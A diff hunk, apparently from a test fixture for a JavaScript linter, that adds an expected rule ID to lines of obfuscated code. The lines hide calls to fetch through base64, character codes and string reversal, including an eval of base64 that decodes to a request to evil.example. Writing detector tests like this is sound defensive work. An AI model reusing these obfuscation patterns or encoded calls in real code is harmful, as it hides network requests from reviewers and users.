@@ -5,7 +5,7 @@ self[getName()](); // want "OBF001"
 self[atob("ZmV0Y2g=")](url); // want "NET001" "OBF002"
 window[String.fromCharCode(102, 101, 116, 99, 104)](url); // want "NET001" "OBF002"
 window["hctef".split("").reverse().join("")](url); // want "NET001" "OBF002"
-eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlJyk=")); // want "DYN001" "OBF003"
+eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlJyk=")); // want "DYN001" "OBF003" "OBF004"
 // near misses
 const table = {};
 table[key] = 1;
